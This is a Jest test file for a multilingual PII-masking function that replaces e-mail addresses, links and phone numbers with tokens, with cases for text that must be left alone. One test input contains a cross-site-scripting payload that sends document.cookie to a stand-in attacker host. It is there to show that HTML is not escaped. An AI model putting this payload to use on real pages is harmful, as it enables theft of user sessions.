import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { MASK, maskEmails, maskLinks, maskPhones, maskPii } from './masking';

describe('maskPii', () => {
  it('uses fixed tokens', () => {
    expect(MASK).toEqual({ email: '[email]', phone: '[phone]', link: '[link]' });
  });

  describe('e-mail addresses', () => {
    it.each<[string, string]>([
      ['write to ana@example.com please', 'write to [email] please'],
      ['Jean.Dupont+promo@mail.example.co.uk', '[email]'],
      ['first_last-2@sub.domain.fr.', '[email].'],
      ['(ana@example.org)', '([email])'],
      ['élodie.lefèvre@exemple.fr', '[email]'],
      ['<ana@example.com>', '<[email]>'],
      ['two: a@b.io, c@d.net', 'two: [email], [email]'],
      ['UPPER@EXAMPLE.COM', '[email]'],
      ['0612345678@sms.example.fr', '[email]'],
      ['e\u0301lodie@exemple.fr (decomposed accent)', '[email] (decomposed accent)'],
    ])('%j → %j', (text, expected) => {
      expect(maskPii(text)).toBe(expected);
    });
  });

  describe('links', () => {
    it.each<[string, string]>([
      ['see https://example.com/a?b=1&c=2#x now', 'see [link] now'],
      ['http://example.com.', '[link].'],
      ['HTTPS://EXAMPLE.COM/PATH', '[link]'],
      ['ftp://files.example.org/x.zip', '[link]'],
      ['(https://en.wikipedia.org/wiki/Foo_(bar))', '([link])'],
      ['[https://example.com]', '[[link]]'],
      ['go to www.example.com!', 'go to [link]!'],
      ['WWW.Example.fr/page, then', '[link], then'],
      ['example.com/path', '[link]'],
      ['leboncoin.fr', '[link]'],
      ['on amazon.com, really?', 'on [link], really?'],
      ['shop.example.co.uk/basket?x=1.', '[link].'],
      ['mon-site.io', '[link]'],
      ['exemple.de/seite', '[link]'],
      ['my.site.me/about', '[link]'],
      ['blog.example.com.au', '[link]'],
      ['example.co.uk', '[link]'],
      ['mistral.ai/chat', '[link]'],
      ['exemple.de', 'exemple.de'], // weak TLD without a path
      ['exemple.de.', 'exemple.de.'],
      ['shop.site.de', '[link]'], // weak TLD after a strong one
      ['www.example.co', '[link]'],
      ['https://example.com/<script>alert(1)</script>', '[link]<script>alert(1)</script>'],
      ['"https://example.com/q"', '"[link]"'],
      ['https://evil.example/0612345678', '[link]'],
      ['ana at example dot com or ana(at)example.com', '[email] or [email]'],
      ['I looked at example.com first', 'I looked at [link] first'],
      ['I looked at anecdotes.com first', 'I looked at [link] first'],
    ])('%j → %j', (text, expected) => {
      expect(maskPii(text)).toBe(expected);
    });
  });

  describe('phone numbers', () => {
    it.each<[string, string]>([
      ['+33 6 12 34 56 78', '[phone]'],
      ['call +33 6 12 34 56 78 tonight', 'call [phone] tonight'],
      ['+33612345678', '[phone]'],
      ['+33 (0)6 12 34 56 78', '[phone]'],
      ['0033 6 12 34 56 78', '[phone]'],
      ['+44 20 7946 0958', '[phone]'],
      ['+1 (555) 123-4567', '[phone]'],
      ['+1-555-123-4567', '[phone]'],
      ['06 12 34 56 78', '[phone]'],
      ['0612345678', '[phone]'],
      ['06.12.34.56.78', '[phone]'],
      ['06-12-34-56-78', '[phone]'],
      ['tél : 01 23 45 67 89.', 'tél : [phone].'],
      ['tel:0612345678', 'tel:[phone]'],
      ['(555) 123-4567', '[phone]'],
      ['(555)123-4567', '[phone]'],
      ['555-123-4567', '[phone]'],
      ['555.123.4567', '[phone]'],
      ['555 123 4567', '[phone]'],
      ['1-555-123-4567', '[phone]'],
      ['020 7946 0958', '[phone]'],
      ['030 1234 5678', '[phone]'],
      ['mobile 06 12 34 56 78, fixe 01 23 45 67 89', 'mobile [phone], fixe [phone]'],
      ['(06 12 34 56 78)', '([phone])'],
    ])('%j → %j', (text, expected) => {
      expect(maskPii(text)).toBe(expected);
    });
  });

  describe('left alone', () => {
    it.each<string>([
      'I used it 3 times',
      'since 2024',
      'between 2019 and 2024',
      '50% of the time',
      '7/10, would buy again',
      'note : 9/10',
      '12,50 €',
      '1 234,56 €',
      '$1,234.56',
      '1 000 000 de vues',
      '10 000 000',
      'at 10:30 or 14h30',
      'le 12/03/2024',
      'on 2024-03-12',
      'le 01.02.2024 à 10.30',
      'iOS 17.4.1 and v1.2.3',
      '75011 Paris',
      '+20 % de batterie',
      '+3 points',
      '-5 °C outside',
      'order 123456789',
      'order 5551234567',
      'SIRET 12345678901234',
      'score 9.5/10',
      '1.5 kg, 2.25 L',
      'e.g. this, i.e. that, etc.',
      'photo.jpg and report.pdf',
      'node.js, ASP.NET and Vue.js',
      'ça marche bien.ca va',
      "c'était la fin.de toute façon",
      "c'était bien.au final",
      'mistral.ai is fine',
      'M. Dupont, St. Louis',
      '@ana on the forum',
      'ana@localhost',
      'a @ b',
      '<script>alert("x")</script>',
      '<b>bold</b> & <i>more</i>',
      'Élodie à l’école, où ça ?',
      '',
      '[email] [phone] [link]',
    ])('%j', (text) => {
      expect(maskPii(text)).toBe(text);
    });
  });

  it('does not escape HTML: a script tag survives next to a mask', () => {
    expect(maskPii('<script>fetch("https://evil.example.com/?c="+document.cookie)</script> ana@example.com')).toBe(
      '<script>fetch("[link]"+document.cookie)</script> [email]',
    );
  });

  it('masks every kind in one text, in order', () => {
    expect(maskPii('Ana (ana@example.com, 06 12 34 56 78) blogs at https://ana.example.fr and ana.example.fr/blog.')).toBe(
      'Ana ([email], [phone]) blogs at [link] and [link].',
    );
  });

  it.each<string>(['ana@example.com, 06 12 34 56 78, https://example.com/x', '+1 (555) 123-4567 www.example.org example.com/path'])(
    'is idempotent: %j',
    (text) => {
      const once = maskPii(text);
      expect(maskPii(once)).toBe(once);
      expect(once).not.toMatch(/\d{2}|@|example/);
    },
  );

  it('the parts only do their own kind', () => {
    const text = 'ana@example.com 06 12 34 56 78 https://example.com';
    expect(maskEmails(text)).toBe('[email] 06 12 34 56 78 https://example.com');
    expect(maskLinks(text)).toBe('ana@example.com 06 12 34 56 78 [link]'); // a domain after @ is an e-mail's
    expect(maskPhones(text)).toBe('ana@example.com [phone] https://example.com');
  });

  // No wall-clock limit (this machine is shared and noisy): the work must grow linearly with the
  // input. Each adversarial shape is masked at n and at 8n repetitions (the fastest of five runs
  // each, so that a busy machine's pauses drop out); linear time gives a ratio near 8, quadratic
  // near 64, backtracking far more: the bound sits at 24, where noise alone does not reach.
  it('grows linearly on long adversarial input (no catastrophic or quadratic backtracking)', () => {
    const shapes: Array<(n: number) => string> = [
      (n) => `${'a'.repeat(n * 2)}@`,
      (n) => 'a.'.repeat(n),
      (n) => 'a-'.repeat(n),
      (n) => 'x@'.repeat(n),
      (n) => '1 '.repeat(n),
      (n) => '+1 '.repeat(n),
      (n) => '06 '.repeat(n),
      (n) => '(555) '.repeat(n / 2),
      (n) => '+33 (0)'.repeat(n / 4),
      (n) => 'www.'.repeat(n / 2),
      (n) => `https://${'a'.repeat(n * 2)}`,
      (n) => 'a dot '.repeat(n / 2),
      (n) => 'a at b dot '.repeat(n / 4),
      (n) => '(at)'.repeat(n / 2),
      (n) => `${'a.'.repeat(n)} at b`,
      (n) => '00 '.repeat(n),
      (n) => '1/'.repeat(n),
      (n) => `${'12 '.repeat(n)}x`,
      (n) => '\uff11\u00a0'.repeat(n),
    ];
    const fastest = (text: string): number => {
      let best = Infinity;
      for (let i = 0; i < 5; i++) {
        const t0 = process.hrtime.bigint();
        maskPii(text);
        best = Math.min(best, Number(process.hrtime.bigint() - t0));
      }
      return best;
    };
    const ratio = (): number => {
      let small = 0;
      let large = 0;
      for (const shape of shapes) {
        small += fastest(shape(2_000));
        large += fastest(shape(16_000));
      }
      return large / small;
    };
    // 8 times the input: linear is about 8, quadratic 64. A busy machine (other test files run
    // beside this one) inflates a round now and then, a quadratic pattern inflates every round:
    // the best of three rounds
    expect(Math.min(ratio(), ratio(), ratio())).toBeLessThan(24);
  });
});

/**
 * A corpus of real-looking French, English, German, Spanish and Swiss lines
 * (fixtures/masking-corpus.json): contact details written the ways people write them
 * (no-break spaces, fullwidth digits, `(+cc)`, `00 cc`, slashes, ideographic full stops,
 * IP literals, spelled-out "at"/"dot") must be masked; prices, dates, years, versions,
 * percentages, postcodes and times must come back exactly as written.
 */
describe('maskPii on the corpus', () => {
  const corpus = JSON.parse(readFileSync(join(__dirname, 'fixtures', 'masking-corpus.json'), 'utf8')) as {
    masked: Array<[string, string, string]>;
    kept: Array<[string, string]>;
  };

  it('has at least 60 lines in five languages', () => {
    expect(corpus.masked.length + corpus.kept.length).toBeGreaterThanOrEqual(60);
    expect(new Set(corpus.masked.map(([lang]) => lang))).toEqual(new Set(['fr', 'en', 'de', 'es', 'ch']));
    expect(new Set(corpus.kept.map(([lang]) => lang))).toEqual(new Set(['fr', 'en', 'de', 'es', 'ch']));
  });

  it.each(corpus.masked)('[%s] masks %j', (_lang, text, expected) => {
    expect(maskPii(text)).toBe(expected);
    expect(maskPii(expected)).toBe(expected);
  });

  it.each(corpus.kept)('[%s] leaves %j as written', (_lang, text) => {
    expect(maskPii(text)).toBe(text);
  });

  it('keeps the unmasked rest exactly as written (no-break spaces, fullwidth letters)', () => {
    expect(maskPii('Prix\u00a0: 1\u202f299 € — ｔｅｌ ０６ １２ ３４ ５６ ７８')).toBe('Prix\u00a0: 1\u202f299 € — ｔｅｌ [phone]');
  });
});
